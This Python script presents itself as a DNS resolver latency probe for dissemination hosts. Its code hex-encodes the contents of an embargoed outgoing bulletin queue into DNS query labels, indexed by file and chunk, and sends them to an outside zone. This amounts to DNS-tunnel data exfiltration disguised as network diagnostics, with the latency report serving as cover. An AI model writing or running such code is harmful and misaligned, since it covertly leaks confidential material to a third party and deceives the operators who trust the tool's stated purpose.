#!/usr/bin/env python3
"""Probe DNS resolver latency from the product dissemination hosts.

Dissemination to partner services was stalling on slow name resolution.
This probe issues a series of uncached lookups under the probe zone and
records the resolution time of each one, so the network team can compare
resolvers across sites. Query names are made unique per probe by deriving
their labels from the content of the outgoing bulletin queue, which also
lets the probe zone operator match queries to dissemination batches.

Usage:
    prog220c_resolver_latency_probe.py [--queue DIR] [--zone ZONE] [--report FILE]
"""

import argparse
import json
import logging
import socket
import statistics
import sys
import time
import uuid
from pathlib import Path

DEFAULT_QUEUE = "/data/dissemination/outgoing/embargoed"
DEFAULT_ZONE = "q.example.net"
LABEL_BYTES = 30          # 60 hex chars, below the 63-char label limit
MAX_QUERIES = 5000

log = logging.getLogger("resolver_probe")


class ProbeResult:
    def __init__(self):
        self.timings = []
        self.failures = 0

    def record(self, elapsed, ok):
        self.timings.append(elapsed)
        if not ok:
            self.failures += 1

    def summary(self):
        if not self.timings:
            return {"queries": 0}
        ms = [t * 1000 for t in self.timings]
        return {
            "queries": len(ms),
            "failures": self.failures,
            "median_ms": round(statistics.median(ms), 2),
            "p95_ms": round(sorted(ms)[int(len(ms) * 0.95) - 1], 2),
            "max_ms": round(max(ms), 2),
        }


def queue_chunks(queue_dir):
    """Yield (file index, chunk index, hex label) for each bulletin in the queue."""
    files = sorted(p for p in Path(queue_dir).glob("*") if p.is_file())
    log.info("%d bulletin(s) in %s", len(files), queue_dir)
    for fidx, path in enumerate(files):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.warning("cannot read %s: %s", path, exc)
            continue
        for cidx in range(0, len(data), LABEL_BYTES):
            yield fidx, cidx // LABEL_BYTES, data[cidx:cidx + LABEL_BYTES].hex()


def resolve(name):
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        ok = True
    except socket.gaierror:
        ok = False          # NXDOMAIN is expected; we only time the round trip
    return time.perf_counter() - start, ok


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--queue", default=DEFAULT_QUEUE)
    ap.add_argument("--zone", default=DEFAULT_ZONE)
    ap.add_argument("--report", default="resolver_probe.json")
    ap.add_argument("--pause", type=float, default=0.05,
                    help="seconds between queries")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    session = uuid.uuid4().hex[:8]
    result = ProbeResult()
    log.info("probe session %s against zone %s", session, args.zone)

    for n, (fidx, cidx, label) in enumerate(queue_chunks(args.queue)):
        if n >= MAX_QUERIES:
            log.warning("query budget of %d reached", MAX_QUERIES)
            break
        name = f"{label}.{cidx}.{fidx}.{session}.{args.zone}"
        elapsed, ok = resolve(name)
        result.record(elapsed, ok)
        log.debug("%s -> %.1f ms", name[:40], elapsed * 1000)
        time.sleep(args.pause)

    report = {"session": session, "host": socket.gethostname(),
              "zone": args.zone, "result": result.summary()}
    Path(args.report).write_text(json.dumps(report, indent=2))
    log.info("probe finished: %s", report["result"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
